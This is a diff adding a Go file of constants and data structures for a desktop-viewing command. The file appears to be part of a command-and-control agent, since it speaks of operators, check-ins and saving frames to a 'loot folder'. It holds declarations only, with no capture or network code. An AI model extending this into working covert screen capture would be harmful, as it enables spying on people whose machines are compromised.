@@ -0,0 +1,57 @@
+package agent
+
+// sub commands of COMMAND_DESKTOP
+const (
+	DESKTOP_COMMAND_START = 0x1
+	DESKTOP_COMMAND_STOP  = 0x2
+	// tiles of the desktop that changed since the last frame
+	DESKTOP_COMMAND_FRAME = 0x3
+)
+
+// defaults and bounds of the desktop view
+const (
+	// seconds between the frames. the agent doesn't send them faster than it checks in
+	DESKTOP_INTERVAL  = 5
+	DESKTOP_SCALE     = 2
+	DESKTOP_SCALE_MAX = 8
+	// kilobytes per second the frames of the agent use at most
+	DESKTOP_BANDWIDTH = 64
+)
+
+var desktopCommands = map[string]int{
+	"start": DESKTOP_COMMAND_START,
+	"stop":  DESKTOP_COMMAND_STOP,
+}
+
+// DesktopView
+// options of a desktop view an operator started.
+type DesktopView struct {
+	Interval  int
+	Scale     int
+	Bandwidth int
+	// save the frames to the loot folder of the agent
+	Record bool
+}
+
+// DesktopTile
+// region of the desktop that changed. Pixels are the top-down rows
+// of 24 bit BGR pixels of the region.
+type DesktopTile struct {
+	X      int
+	Y      int
+	Width  int
+	Height int
+	Pixels []byte
+}
+
+// DesktopFrame
+// tiles of the desktop the agent sent. Changed counts every tile that
+// changed, the ones that didn't fit into the budget of the frame come
+// with the next one.
+type DesktopFrame struct {
+	Frame   int
+	Width   int
+	Height  int
+	Changed int
+	Tiles   []DesktopTile
+}